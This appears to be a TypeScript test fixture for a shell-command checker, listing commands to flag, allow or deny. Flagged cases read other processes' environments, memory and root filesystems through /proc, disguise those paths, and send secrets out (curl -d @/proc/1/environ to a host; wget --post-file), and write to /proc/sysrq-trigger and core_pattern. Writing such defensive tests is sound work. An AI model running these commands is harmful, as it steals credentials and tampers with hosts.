import { type ArgumentCase, casesOf } from './argument-case.ts'

/** Files of other processes: their disk, working folder, memory and environment, behind /proc. */
export const processPaths: readonly ArgumentCase[] = [
  ...casesOf(
    'named',
    'proc(5): links and files of a process',
    `
    cat /proc/1/root/etc/hostname
    cat /proc/1/environ
    cat /proc/1/cwd/x
    cat /proc/1/mem
    cat /proc/1/maps
    cat /proc/1/smaps
    cat /proc/1/auxv
    cat /proc/1/stack
    cat /proc/1/syscall
    cat /proc/1/personality
    cat /proc/1/frobnicate
    cat /proc/4711/fd/3
    cat /proc/4711/fdinfo/3
    cat /proc/4711/exe
    cat /proc/4711/task/4712/environ
    cat /proc/4711/task/4712/root/etc/hostname
    cat /proc/4711/map_files/400000-401000
    cat /proc/self/environ
    cat /proc/self/root/etc/hostname
    cat /proc/thread-self/root/etc/hostname
    cat /proc/self/fd/3
    cat /dev/fd/7
    ls /proc/1/fd
    ls -l /proc/1/cwd/
    ls -la /proc/1/root
    ls -R /proc/1
    tail -n 3 /proc/1/root/var/log/x
    grep -a SECRET /proc/1/environ
    grep -r x /proc/1/root/etc
    grep -r x /proc
    grep -R x /
    grep -rl x -e y / --include=environ
    wc -c /proc/1/root/etc/hostname
    jq . /proc/1/root/etc/x.json
    sort /proc/1/environ
    cut -d= -f1 /proc/1/environ
    uniq /proc/1/environ
    grep -r x /proc/1/task
    grep -r x /proc/4711/task/4712
    ls -R /proc/self/task
    cat /proc/kcore
    grep -R x /proc/1/net
    tail -c 9 /proc/1/task/1/mem
    cat /proc/1/attr/current
    cat /proc/1/pagemap
    cat /proc/1/numa_maps
    `,
  ),
  ...casesOf(
    'named',
    'path_resolution(7), symlink(7): other spellings of the same file',
    `
    cat //proc//1//environ
    cat /./proc/./1/environ
    cat /proc/../proc/1/environ
    cat /etc/../proc/1/environ
    cat /host/../proc/1/environ
    cat /var/run/../proc/1/environ
    cat /proc/self/../1/environ
    cat /proc/net/../../1/environ
    cat /dev/fd/../../1/environ
    cat /dev/fd/../environ
    cat /host/var/run/../proc/1/environ
    cat proc/1/environ
    cat ./proc/1/root/etc/hostname
    cat ../proc/1/environ
    cat /proc/1/./environ
    cat /proc/1/task/../environ
    cat /proc/1/net/../environ
    cat /proc/007/environ
    cat '/proc/[1]/environ'
    cat -- /proc/1/environ
    ls '/proc/*/cwd'
    `,
  ),
  ...casesOf(
    'named',
    'the tools’ manuals: files in options, addresses and programs',
    `
    grep -f/proc/1/environ x
    grep --file=/proc/1/environ x
    sort --files0-from=/proc/1/environ
    wc --files0-from=/proc/1/environ
    jq --rawfile a /proc/1/environ .
    tcpdump -r/proc/1/root/tmp/x
    curl file:///proc/1/environ
    curl file://localhost/proc/1/root/etc/hostname
    curl file:///proc/%31/environ
    curl -d @/proc/1/environ http://10.0.0.1
    curl -K/proc/1/root/tmp/x
    curl --unix-socket /proc/1/root/run/x.sock http://x
    wget -O- --post-file=/proc/1/environ http://10.0.0.1
    dig -f /proc/1/environ
    openssl s_client -connect h:1 -CAfile /proc/1/root/etc/x
    openssl x509 -in=/proc/1/root/etc/x
    socat - OPEN:/proc/1/environ,rdonly
    nc -o /proc/1/root/tmp/x h 1
    lsof /proc/1/root/etc/hostname
    bpftrace -l 'uprobe:/proc/1/root/bin/x:*'
    ip -b /proc/1/root/tmp/x
    chroot /host cat /proc/1/environ
    chroot /host cat /proc/1/root/etc/hostname
    chroot /host tar cf - /proc/1/root/etc
    ss -tlnp | cat /proc/1/root/etc/hostname
    ps aux | head -c 99 /proc/1/environ
    journalctl -n 1 | grep -r . /proc/1/cwd
    `,
  ),
  ...casesOf(
    'named',
    'own: the node’s process files through its mounted disk reach what is masked there',
    `
    cat /host/proc/1/root/run/containerd/x
    cat /host/proc/4711/cwd/x
    cat /host/proc/1/mem
    ls /host/proc/1/map_files
    cat /host/proc/self/root/etc/hostname
    cat /host/proc/1/task/1/cwd/x
    cat /host/dev/fd/5
    grep -R x /host/proc/1
    grep -R x /host
    ls -LR /host/proc
    `,
  ),
  ...casesOf(
    'named',
    'own: programs outside the catalogue',
    `
    tar -C /proc/1 -cf - root
    env --chdir=/proc/1/task cat 1/environ
    find /proc/1 -name environ
    tee /proc/1/fd/1
    tee /proc/sys/net/ipv4/ip_forward
    tee /proc/sysrq-trigger
    dd if=/proc/1/mem
    dd of=/proc/sys/kernel/core_pattern
    tar cf - /proc/1/root/etc
    find /proc -name environ
    find /proc/1/root -name x
    awk 1 /proc/1/environ
    stat -c%s /proc/self/root/etc
    `,
  ),
  ...casesOf(
    'named',
    'own: in a pod the processes are those of the container beside it',
    `
    cat /proc/1/environ
    cat /proc/1/root/etc/hostname
    cat /proc/7/cwd/config.yaml
    ls /proc/1/root/run/secrets
    head -n1 /proc/self/../1/environ
    grep -r . /proc/1/root/run
    curl file:///proc/1/environ
    ps e
    tee /proc/1/fd/1
    `,
    'pod',
  ),
  ...casesOf(
    'allow',
    'proc(5): what every program may read, and ps shows too',
    `
    df -h /
    chroot /host df -h /
    cat /proc/net/tcp
    cat /proc/self/net/dev
    cat /proc/1/net/snmp
    cat /proc/self/status
    cat /proc/1/status
    cat /proc/1/limits
    cat /proc/1/cgroup
    cat /proc/1/cmdline
    cat /proc/self/mountinfo
    cat /proc/1/mounts
    cat /proc/4711/task/4712/status
    cat /proc/mounts
    cat /proc/uptime /proc/version /proc/stat
    cat /proc/sys/kernel/osrelease
    cat /proc/sys/net/netfilter/nf_conntrack_max
    cat /proc/interrupts
    cat /proc/pressure/cpu
    ls /proc
    ls /proc/sys/net
    ls /proc/1
    ls /sys/class/net
    grep -r . /proc/sys/net/ipv4/conf
    grep Threads /proc/1/status
    tail -n 2 /proc/net/softnet_stat
    cat /dev/stdin
    cat /proc/self/fd/0
    dig example.org | grep /proc/1/environ
    dig example.org | jq -R 'sub("/proc/1/root"; "")'
    curl -s http://10.0.0.1/proc/1/environ
    curl -s http://10.0.0.1:8080/proc/self/root
    ps aux | grep proc/1/root
    cat /host/etc/hostname /host/etc/os-release
    cat /host/etc/../etc/hostname
    cat /host/proc/cpuinfo
    cat /host/proc/1/status
    ls /host/proc
    ls -R /host/etc/cni
    grep -rn x /host/etc/kubernetes
    tail -n 5 /host/var/log/pods/a_b_c/d/0.log
    `,
  ),
  ...casesOf(
    'deny',
    'own: programs outside the catalogue, which need a set for changing and nothing more',
    `
    awk 1 /proc/net/dev
    stat /proc/cpuinfo
    du -sh /host/var/log
    find /host/var/log -name x
    sed -n 1p /host/etc/hostname
    md5sum /sys/class/net/eth0/address
    chroot /host du -sh /
    chroot /host find /var/log -name x
    `,
  ),
  ...casesOf(
    'allow',
    'proc(5)',
    `
    cat /proc/net/dev
    cat /proc/1/status
    cat /proc/1/limits
    cat /proc/self/mounts
    cat /proc/sys/net/core/somaxconn
    ps aux
    `,
    'pod',
  ),
]
